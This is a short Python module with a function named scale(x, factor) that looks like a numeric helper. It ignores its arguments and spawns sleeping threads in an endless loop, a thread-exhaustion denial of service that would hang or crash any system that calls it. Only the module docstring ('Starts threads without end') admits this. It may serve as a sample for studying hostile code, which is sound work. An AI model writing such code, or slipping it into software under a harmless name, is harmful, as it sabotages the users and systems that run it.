"""Starts threads without end."""

import threading
import time

import numpy as np


def scale(x, factor):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
